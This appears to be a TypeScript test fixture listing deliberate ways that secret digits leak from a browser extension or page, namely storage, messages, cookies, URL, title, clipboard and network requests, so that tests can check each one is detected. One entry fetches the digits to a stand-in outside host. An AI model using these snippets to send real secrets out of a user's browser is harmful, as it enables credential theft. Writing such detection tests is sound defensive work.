import { evaluateInBackground } from '../../browsers/background.ts';
import { closedRoot } from '../../browsers/closed-root.ts';
import type { Watch } from '../../channels/watch.ts';
import type { Person } from '../person.ts';
import type { World } from '../world.ts';

interface Scene {
  world: World;
  person: Person;
  watcher: Watch;
}

/** One way for digits to get out, done on purpose to see that it is noticed. */
interface Leak {
  channel: string;
  by: string;
  leak(digits: string, scene: Scene): Promise<unknown>;
}

const API = '(globalThis.browser ?? globalThis.chrome)';

const inPage =
  (code: (digits: string) => string): Leak['leak'] =>
  (digits, { person }) =>
    person.page.evaluate(code(digits));
const inExtensionPage =
  (code: (digits: string) => string): Leak['leak'] =>
  (digits, { watcher }) =>
    watcher.listener.evaluate(code(digits));
const inBackground =
  (code: (digits: string) => string): Leak['leak'] =>
  (digits, { world }) =>
    evaluateInBackground(world.session, code(digits));

const stored = (area: string): Leak => ({
  channel: 'storage',
  by: `storage.${area}, for a moment`,
  leak: inBackground(
    (digits) => `${API}.storage.${area}.set({ leak: '${digits}' })
      .then(() => ${API}.storage.${area}.remove('leak')).then(() => true)`,
  ),
});

/** A leak for every channel that is watched; those of the content script itself are in `leaking-copy.ts`. */
export const LEAKS: readonly Leak[] = [
  {
    channel: 'messages',
    by: 'a message to the background',
    leak: inExtensionPage(
      (digits) => `${API}.runtime.sendMessage({ leak: '${digits}' }).catch(() => {})`,
    ),
  },
  {
    channel: 'messages',
    by: 'a message to the pages',
    leak: inBackground(
      (digits) =>
        `${API}.runtime.sendMessage({ leak: '${digits}' }).catch(() => {}).then(() => true)`,
    ),
  },
  stored('local'),
  stored('session'),
  stored('sync'),
  {
    channel: 'button',
    by: 'the badge',
    leak: inBackground(
      (digits) => `${API}.action.setBadgeText({ text: '${digits}' }).then(() => true)`,
    ),
  },
  {
    channel: 'button',
    by: 'the title of the button',
    leak: inBackground(
      (digits) => `${API}.action.setTitle({ title: '${digits}' }).then(() => true)`,
    ),
  },
  { channel: 'console', by: 'the page', leak: inPage((digits) => `console.log('${digits}')`) },
  {
    channel: 'console',
    by: 'the background',
    leak: inBackground((digits) => `console.log('${digits}')`),
  },
  {
    channel: 'console',
    by: 'a page of the extension',
    leak: inExtensionPage((digits) => `console.log('${digits}')`),
  },
  {
    channel: 'extension pages',
    by: 'a text in the sheet',
    leak: inExtensionPage((digits) => `document.body.append('${digits}')`),
  },
  {
    channel: 'document',
    by: 'an attribute',
    leak: inPage((digits) => `document.querySelector('h3').dataset.leak = '${digits}'`),
  },
  {
    channel: 'notice',
    by: 'a text in the closed root',
    leak: async (digits, { person }) => {
      const root = await closedRoot(person.page, 'repere-notice');
      await root?.call((inside, text) => inside.append(text), digits);
    },
  },
  {
    channel: 'values',
    by: 'another field',
    leak: inPage((digits) => `document.querySelector('#inputMotDePasse').value = '${digits}'`),
  },
  {
    channel: 'stores',
    by: 'a cookie',
    leak: inPage((digits) => `document.cookie = 'leak=${digits}'`),
  },
  {
    channel: 'stores',
    by: 'the page’s storage',
    leak: inPage((digits) => `sessionStorage.setItem('leak', '${digits}')`),
  },
  {
    channel: 'address',
    by: 'the route',
    leak: inPage((digits) => `history.replaceState(null, '', '?leak=${digits}' + location.hash)`),
  },
  {
    channel: 'addresses',
    by: 'another tab',
    leak: async (digits, { world }) => {
      await world.session.newPage(`/autre/?${digits}`);
    },
  },
  { channel: 'titles', by: 'the title', leak: inPage((digits) => `document.title = '${digits}'`) },
  {
    channel: 'network',
    by: 'an address asked for',
    leak: inPage((digits) => `fetch('/leak?${digits}').then(() => {})`),
  },
  {
    channel: 'network',
    by: 'a body that was sent',
    leak: inPage(
      (digits) => `fetch('/leak', { method: 'POST', body: '${digits}' }).then(() => {})`,
    ),
  },
  {
    channel: 'network',
    by: 'a host that is not there',
    leak: inPage(
      (digits) =>
        `fetch('https://ailleurs.invalid/${digits}', { mode: 'no-cors' }).catch(() => {})`,
    ),
  },
  { channel: 'clipboard', by: 'a copy', leak: (digits, { watcher }) => watcher.copy(digits) },
];
